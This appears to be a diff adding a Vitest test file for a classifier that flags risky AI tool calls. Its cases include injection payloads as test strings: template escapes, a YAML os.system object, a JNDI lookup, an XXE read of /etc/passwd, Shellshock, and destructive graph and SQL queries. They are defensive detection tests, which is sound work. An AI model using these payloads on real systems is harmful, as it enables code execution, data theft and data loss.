@@ -1,0 +1,86 @@
+import { describe, expect, it } from "vitest";
+import type { JsonObject } from "../../../../src/core/base/json.ts";
+import { type Classification, classify } from "../../../../src/core/classify/classify.ts";
+
+const of = (tool: string, args: JsonObject): Classification => classify({ tool, args });
+
+describe("texts that become code where they are read", () => {
+	it.each([
+		[
+			"a template that reaches for the runtime",
+			"{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+			"template-escape",
+		],
+		["an object in YAML", "!!python/object/apply:os.system ['id']", "yaml-object"],
+		["a lookup", "${jndi:ldap://203.0.113.9/a}", "lookup"],
+		["an entity", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "entity"],
+		["an object of PHP", 'O:8:"Evil\\App":1:{s:1:"a";}', "serialized-object"],
+		["a function in a header", "() { :; }; /bin/id", "shellshock"],
+	])("%s", (_, text, layer) => {
+		const { dangerous, facts } = of("render", { value: text });
+		expect(dangerous).toBe(true);
+		expect(facts.flatMap(({ kind, has }) => (kind === "encoding" ? has["layer"] : []))).toContain(layer);
+	});
+
+	it.each(["{{ user.name }}", "${total} EUR", "<% if paid %>", "!!! important", "f(){ return 1; }"])(
+		"%s is none",
+		(text) => {
+			expect(of("render", { value: text }).dangerous).toBe(false);
+		},
+	);
+
+	it("are words where somebody asks about them", () => {
+		expect(of("search_docs", { query: "{{ ''.__class__.__mro__[1].__subclasses__() }}" }).dangerous).toBe(false);
+	});
+});
+
+describe("queries of graphs", () => {
+	it("are what their mutations are named after, by the field and not by its alias", () => {
+		expect(of("graphql", { query: "mutation M($id: ID!) { list: deleteDatabase(id: $id) { id } }" })).toMatchObject({
+			category: "destructive_data",
+			dangerous: true,
+		});
+		expect(of("graphql", { query: 'mutation { updateTitle(id: 1, title: "delete all") { id } }' }).dangerous).toBe(
+			false,
+		);
+		expect(of("graphql", { query: "query { deletedUsers { id } }" }).dangerous).toBe(false);
+	});
+
+	it("delete all, some or nothing", () => {
+		expect(of("graph", { query: "MATCH (n) DETACH DELETE n" }).category).toBe("destructive_data");
+		expect(of("graph", { query: "MATCH (n:Deleted) RETURN n LIMIT 5" }).category).toBe("data_read");
+	});
+});
+
+describe("calls that pass a call on", () => {
+	it("are the call that they pass on, at any depth", () => {
+		const inner = { name: "drop_table", arguments: { table: "users" } };
+		expect(of("mcp_call_tool", inner).category).toBe("destructive_data");
+		const outer = { tool: "call_tool", arguments: inner };
+		const { category, facts } = of("invoke_tool", outer);
+		expect(category).toBe("destructive_data");
+		expect(facts.map(({ kind }) => kind)).toContain("tool");
+	});
+
+	it("keep the places of the whole call", () => {
+		const { facts } = of("call_tool", { name: "read_file", arguments: { path: "/etc/shadow" } });
+		expect(facts.find(({ kind }) => kind === "path")?.pointer).toBe("/arguments/path");
+	});
+});
+
+describe("names of tools", () => {
+	it.each([
+		["drain_node", { name: "n1" }, "system_modification"],
+		["kill_process", { pid: 4 }, "system_modification"],
+		["sudo_exec", {}, "privilege_escalation"],
+		["kill_ratio", { kills: 3 }, "benign"],
+		["remove_item_from_list", { item: 3 }, "data_write"],
+		["reset_password", { user: "ann" }, "data_read"],
+		["undelete_file", { path: "a.txt" }, "data_write"],
+		["delete_file", { path: "a.txt", dry_run: true }, "data_read"],
+	] as const)("%s is %s", (tool, args, category) => {
+		const said = of(tool, args);
+		if (category === "data_read" || category === "data_write") expect(said.dangerous).toBe(false);
+		else expect(said.category).toBe(category);
+	});
+});
